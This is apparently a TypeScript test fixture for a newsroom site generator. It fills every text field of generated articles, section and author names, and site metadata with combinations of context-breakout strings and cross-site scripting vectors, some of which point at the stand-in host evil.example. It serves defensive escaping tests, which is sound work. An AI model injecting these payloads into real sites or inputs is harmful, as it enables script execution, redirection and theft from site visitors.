// Text that would like to be markup, in every place where an article has text.
import { stringify } from "yaml";
import { Newsroom, SVG } from "./newsroom.ts";

/** Ways out of where text may stand. */
const BREAKOUTS = [
  ..."\"'`".split(""),
  ...['">', "'>", "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>", "</a>"],
  ...["<!--", '\\"', "&quot;>", "\u2028", "{{", "$t(", "${"],
];

/** What they would run. `pwn` stands for code that leaves a trace. */
const VECTORS = [
  "<script>pwn</script>",
  "<img src=x onerror=pwn>",
  "<svg onload=pwn>",
  "<svg><script>pwn</script></svg>",
  "<iframe srcdoc='<script>parent.pwn</script>'>",
  "<math><mtext><style><img src=x onerror=pwn>",
  "<a href=javascript:pwn>x</a>",
  " autofocus onfocus=pwn x=",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;//evil.example'>",
  "<link rel=stylesheet href=//evil.example>",
  "<style>@import'//evil.example';</style>",
  "<object data=javascript:pwn>",
  "<form action=//evil.example><input autofocus onfocus=pwn>",
  "<details open ontoggle=pwn>",
  "<template shadowrootmode=open><img src=x onerror=pwn></template>",
  "javascript:pwn",
  "&lt;script&gt;pwn&lt;/script&gt;",
];

const TRACE = "alert(1),top.__pwned=1";

/** Over 300, all different, each short enough for the name of a section. */
export const PAYLOADS: readonly string[] = ["", ...BREAKOUTS].flatMap((breakout) =>
  VECTORS.map((vector) => breakout + vector.replaceAll("pwn", TRACE)),
);

/** Places of an article that hold text, each of which gets a payload of its own. */
const SLOTS = 18;
export const ARTICLES = Math.ceil(PAYLOADS.length / SLOTS);

const markdown = (text: string): string => text.replace(/[!-/:-@[-`{-~]/g, "\\$&");

/**
 * A newsroom with a payload in every slot.
 * @param harmless the same newsroom with a word in each of those places, to tell what its pages are made of.
 */
export async function openHostileNewsroom(harmless: boolean): Promise<Newsroom> {
  const newsroom = await Newsroom.open("none");
  const sections: Record<string, object> = {};
  const authors: Record<string, object> = {};
  let next = 0;
  const text = () => {
    const payload = PAYLOADS[next++ % PAYLOADS.length] as string;
    // A line separator is refused where a text has one line: it is tried in the body.
    return harmless ? "word" : payload;
  };
  const line = () => text().replaceAll("\u2028", " ");
  for (let i = 0; i < ARTICLES; i++) {
    sections[`section-${i}`] = { en: line(), uk: line() };
    authors[`author-${i}`] = { type: "Person", name: { en: line(), uk: line() } };
    const fields = {
      section: `section-${i}`,
      author: `author-${i}`,
      datePublished: `2025-01-01T10:${String(i).padStart(2, "0")}:00+02:00`,
      headline: line(),
      description: line(),
      keywords: [line().slice(0, 80), "word"],
      image: { src: "picture.svg", alt: line(), caption: line(), credit: line(), source: { name: line() } },
      changes: [{ kind: "correction", date: "2025-02-01T10:00:00+02:00", text: line() }],
      related: [`article-${(i + 1) % ARTICLES}`],
    };
    const body = [
      markdown(text()),
      `## ${markdown(line())}`,
      `> ${markdown(text())}\n>\n> — ${markdown(line())}`,
      `- ${markdown(text())}\n- [${markdown(line())}](https://visnyk.example/)`,
      `![${markdown(line())}](picture.svg "${markdown(line())}")`,
    ].join("\n\n");
    await newsroom.article(`article-${i}`, "en", fields, body);
    await newsroom.write(`articles/article-${i}/picture.svg`, SVG);
  }
  await newsroom.article("gone", "en", {
    section: "section-0",
    author: "author-0",
    retracted: { date: "2025-06-01T10:00:00+03:00", note: line() },
  });
  await newsroom.names("sections.yaml", stringify(sections));
  await newsroom.names("authors.yaml", stringify(authors));
  const names = () => ({ en: line(), uk: line() });
  await newsroom.names("site.yaml", stringify({ name: names(), description: names() }));
  return newsroom;
}
